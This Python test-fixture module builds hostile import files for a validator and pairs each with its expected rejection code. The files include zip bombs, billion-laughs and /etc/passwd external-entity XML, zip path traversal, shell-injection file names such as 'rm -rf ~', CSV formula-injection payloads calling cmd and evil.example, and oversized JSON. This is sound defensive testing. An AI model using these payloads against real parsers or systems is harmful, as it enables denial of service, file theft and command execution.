"""Files that mean harm: bombs, depth, distance, length, numbers of things, tricks with names, formulas; each with its right answer.

Each is made of an honest report, so that nothing but the harm is wrong with it. Does not belong here: running them
(benchmarks.hostile).
"""

from __future__ import annotations

import io
import os
import re
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

#: what a file may be made of: an honest report of each format
Plain = Mapping[str, bytes]
_DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "%s">%s]>'
_LAUGHS = _DTD % (b"ha" * 40, b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)))
_OUTSIDE = _DTD % (b"", b'<!ENTITY x SYSTEM "file:///etc/passwd">')
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


#: a row behind all that the honest report writes
BEHIND = 2_000


@dataclass(frozen=True, slots=True)
class Hostile:
    """One file: ``right`` is the code of the finding that refuses it, or the verdict ``accepted``. ``cheap``: fit for a test."""

    name: str
    format: str
    right: str
    make: Callable[[Plain, Path], object]
    cheap: bool = True


def _book(plain: Plain, change: Callable[[str, bytes], bytes], more: Mapping[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain["xlsx"])) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, content in (more or {}).items():
            new.writestr(name, content)
    return out.getvalue()


def _adding(**parts: bytes) -> Callable[[Plain, Path], object]:
    named = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    return lambda plain, path: path.write_bytes(_book(plain, lambda _, body: body, named))


def _sheet(old: bytes, new: bytes) -> Callable[[Plain, Path], object]:
    """Put ``new`` in the place of the first ``old`` of the sheet of trainings."""

    def changed(name: str, body: bytes) -> bytes:
        return body.replace(old, new, 1) if name == "xl/worksheets/sheet3.xml" else body

    return lambda plain, path: path.write_bytes(_book(plain, changed))


def _rows(count: int, cells: str) -> Callable[[Plain, Path], object]:
    def make(plain: Plain, path: Path) -> None:
        rows = "".join(f'<row r="{r}">{cells.replace("ROW", str(r))}</row>' for r in range(BEHIND, BEHIND + count))
        _sheet(b"</sheetData>", rows.encode() + b"</sheetData>")(plain, path)

    return make


def _workbook(old: bytes, new: bytes) -> Callable[[Plain, Path], object]:
    def changed(name: str, body: bytes) -> bytes:
        return re.sub(old, new, body, count=1) if name == "xl/workbook.xml" else body

    return lambda plain, path: path.write_bytes(_book(plain, changed))


def _many_sheets(count: int) -> Callable[[Plain, Path], object]:
    sheets = b"".join(b'<sheet name="s%d" sheetId="%d" r:id="rId3"/>' % (n, n + 100) for n in range(count))
    return _workbook(b"</sheets>", sheets + b"</sheets>")


def _long_texts(length: int, cells: int) -> Callable[[Plain, Path], object]:
    """One shared text of ``length`` in so many cells."""

    def make(plain: Plain, path: Path) -> None:
        def changed(name: str, body: bytes) -> bytes:
            if name == "xl/sharedStrings.xml":
                return re.sub(rb"<t[^>]*>[^<]*</t>", b"<t>" + b"x" * length + b"</t>", body, count=1)
            if name != "xl/worksheets/sheet3.xml":
                return body
            rows = b"".join(
                b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (r, r) for r in range(BEHIND, BEHIND + cells)
            )
            return body.replace(b"</sheetData>", rows + b"</sheetData>")

        path.write_bytes(_book(plain, changed))

    return make


def _twice(plain: Plain, path: Path) -> None:
    path.write_bytes(_book(plain, lambda _, body: body, {"XL/Worksheets/sheet3.xml": b"<worksheet/>"}))


def _lying(plain: Plain, path: Path) -> None:
    """The directory says of each part that it is a hundred bytes."""
    content = bytearray(plain["xlsx"])
    for found in re.finditer(b"PK\x01\x02", bytes(content)):
        content[found.start() + 24 : found.start() + 28] = (100).to_bytes(4, "little")
    path.write_bytes(content)


def _sparse(_: Plain, path: Path) -> None:
    with path.open("wb") as out:
        out.write(b"a;b\n" * 4096)
    os.truncate(path, 2 << 30)


def _text(content: bytes | Callable[[], bytes]) -> Callable[[Plain, Path], object]:
    return lambda _, path: path.write_bytes(content if isinstance(content, bytes) else content())


def _json(inner: bytes | Callable[[], bytes]) -> Callable[[Plain, Path], object]:
    """An honest report of json with something in the place of its tables."""

    def make(plain: Plain, path: Path) -> None:
        head = re.split(rb'"tables"\s*:', plain["json"])[0]
        path.write_bytes(head + b'"tables": {' + (inner if isinstance(inner, bytes) else inner()) + b"}}")

    return make


def _csv(old: str, new: str) -> Callable[[Plain, Path], object]:
    def make(plain: Plain, path: Path) -> None:
        text = plain["csv"].decode("utf-16" if plain["csv"].startswith(b"\xff\xfe") else "utf-8-sig")
        path.write_text(re.sub(old, lambda _: new, text, count=1), encoding="utf-8", newline="")

    return make


def _ods(old: bytes, new: bytes) -> Callable[[Plain, Path], object]:
    def make(plain: Plain, path: Path) -> None:
        with zipfile.ZipFile(io.BytesIO(plain["ods"])) as book, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
            for name in book.namelist():
                body = book.read(name)
                out.writestr(name, re.sub(old, lambda _: new, body, count=1) if name == "content.xml" else body)

    return make


def _as_it_is(plain: Plain, path: Path) -> None:
    path.write_bytes(plain["xlsx"])


_FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
_NESTED = b"<a>" * 200_000 + b"</a>" * 200_000
_REPEATED = b'<table:table-row table:number-rows-repeated="%d"><table:table-cell table:number-columns-repeated="%d" ' \
    b'office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table>'  # fmt: skip

HOSTILE: tuple[Hostile, ...] = (
    Hostile("bomb.xlsx", "xlsx", "F-BOMB", _adding(xl__media__a_dot_bin=bytes(200 << 20))),
    Hostile("ten-thousand-parts.xlsx", "xlsx", "F-BOMB", _adding(**{f"xl__p{n}_dot_xml": b"<a/>" for n in range(10_000)})),
    Hostile("one-part-twice.xlsx", "xlsx", "F-BOMB", _twice),
    Hostile("lying-sizes.xlsx", "xlsx", "F-TRUNCATED", _lying),
    Hostile("cut.xlsx", "xlsx", "F-TRUNCATED", lambda p, path: path.write_bytes(p["xlsx"][:-200])),
    Hostile("zip-in-zip.xlsx", "xlsx", "accepted", lambda p, path: _adding(xl__media__a_dot_zip=p["xlsx"])(p, path)),
    Hostile("path-in-zip.xlsx", "xlsx", "accepted", _adding(**{"..__..__..__tmp__danvan-pwn": b"x"})),
    Hostile("laughs.xlsx", "xlsx", "F-DTD", _adding(xl__worksheets__sheet99_dot_xml=_LAUGHS + b"<worksheet>&a11;</worksheet>")),
    Hostile("other-file.xlsx", "xlsx", "F-DTD", _adding(xl__worksheets__sheet99_dot_xml=_OUTSIDE + b"<worksheet>&x;</worksheet>")),
    Hostile("far-cell.xlsx", "xlsx", "F-RANGE", _sheet(b"</sheetData>", _FAR)),
    Hostile("far-cell-lower-case.xlsx", "xlsx", "F-RANGE", _sheet(b"</sheetData>", _FAR.replace(b"XFD", b"xfd"))),
    Hostile("depth.xlsx", "xlsx", "accepted", _sheet(b"</sheetData>", b"</sheetData>" + _NESTED)),
    Hostile("ten-thousand-sheets.xlsx", "xlsx", "F-SHEETS", _many_sheets(10_000)),
    Hostile("long-text-in-many-cells.xlsx", "xlsx", "rejected", _long_texts(1 << 20, 5_000), cheap=False),
    Hostile("hundred-thousand-faults.xlsx", "xlsx", "V-NEGATIVE", _rows(97_000, '<c r="GROW"><v>-1</v></c>'), cheap=False),
    Hostile("totals-rows.xlsx", "xlsx", "accepted", _rows(
        60_000, '<c r="AROW" t="inlineStr"><is><t>Cộng</t></is></c>'), cheap=False),
    Hostile("twenty-thousand-merges.xlsx", "xlsx", "accepted", _sheet(
        b"</sheetData>", b"</sheetData><mergeCells>" + b"".join(
            b'<mergeCell ref="A%d:B%d"/>' % (r, r) for r in range(200, 20_200)) + b"</mergeCells>"), cheap=False),
    Hostile("macro.xlsx", "xlsx", "F-MACRO", _adding(xl__vbaProject_dot_bin=b"x")),
    Hostile("old.xls", "xlsx", "F-OLD-XLS", _text(_OLE + bytes(600))),
    Hostile("locked.xlsx", "xlsx", "F-ENCRYPTED", _text(_OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"))),
    Hostile("$(touch pwn);`id`&& rm -rf ~.xlsx", "xlsx", "accepted", _as_it_is),
    Hostile("=cmd|' &C calc'!A0 \x1b[2J\u202e 0912345678.xlsx", "xlsx", "accepted", _as_it_is),
    Hostile("flat.fods", "ods", "F-XML-SHEET", _text(
        b'<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        b'office:mimetype="application/vnd.oasis.opendocument.spreadsheet"/>')),
    Hostile("repeated-rows.ods", "ods", "F-RANGE", _ods(b"</table:table>", _REPEATED % (99_999, 500))),
    Hostile("repeated-cells.ods", "ods", "F-RANGE", _ods(b"</table:table>", _REPEATED % (1_000, 500))),
    Hostile("laughs.ods", "ods", "F-DTD", _ods(rb"^<\?xml[^>]*\?>", _LAUGHS)),
    Hostile("sparse.csv", "csv", "F-TOO-LARGE", _sparse),
    Hostile("one-line.csv", "csv", "rejected", _text(lambda: b"a;" * (9 << 20)), cheap=False),
    Hostile("one-cell.csv", "csv", "rejected", _text(lambda: b"x" * (19 << 20)), cheap=False),
    Hostile("blank-lines.csv", "csv", "rejected", _text(lambda: b"\n" * (19 << 20)), cheap=False),
    Hostile("quotes.csv", "csv", "rejected", _text(lambda: b'"' * (19 << 20)), cheap=False),
    Hostile("nul.csv", "csv", "F-NOT-OFFICE", _text(b"a;b\0\0\0;c\n" * 9)),
    Hostile("sections.csv", "csv", "rejected", _text(lambda: b"[a]\n" * 4_000_000), cheap=False),
    Hostile("unit-code-is-a-path.csv", "csv", "S-UNIT-UNKNOWN", _csv("DV004", "../../../../PWN")),
    Hostile("depth.json", "json", "F-JSON", _json(lambda: b'"a": ' + b"[" * 5_000_000)),
    Hostile("long-number.json", "json", "rejected", _json(lambda: b'"training": [{"attendee_count": ' + b"9" * 10_000_000 + b"}]")),
    Hostile("nan.json", "json", "F-JSON", _json(b'"training": [{"attendee_count": NaN}]')),
    Hostile("key-twice.json", "json", "F-JSON", _json(b'"training": [{"a": 1, "a": 2}]')),
    Hostile("half-a-letter.json", "json", "rejected", _json(b'"training": [{"content_text": "\\ud800"}]')),
    Hostile("million-keys.json", "json", "rejected", _json(lambda: b'"training": [{%s}]' % b", ".join(
        b'"k%d": 1' % n for n in range(1_000_000))), cheap=False),
    Hostile("half-a-million-tables.json", "json", "rejected", _json(lambda: b", ".join(
        b'"t%d": []' % n for n in range(500_000))), cheap=False),
    Hostile("own-keys.json", "json", "rejected", _json(lambda: b'"training": [%s]' % b", ".join(
        b'{"k%d": 1}' % n for n in range(99_000))), cheap=False),
    Hostile("page.html", "csv", "F-NOT-OFFICE", _text(b"<html><script>alert(1)</script><table/></html>")),
)  # fmt: skip
#: the title of a model of the honest report
TITLE = "Tủ sách người lao động"
#: cells of a text column that a spreadsheet would work out
FORMULAS = ("=1+1", "+cmd|' /C calc'!A0", '-1+WEBSERVICE("http://evil.example")', "＝cmd|' /C calc'!A0", "@SUM(A1)")
HOSTILE += tuple(
    Hostile(f"formula-{n}.csv", "csv", "V-MARKUP", _csv(TITLE, formula)) for n, formula in enumerate(FORMULAS)
)
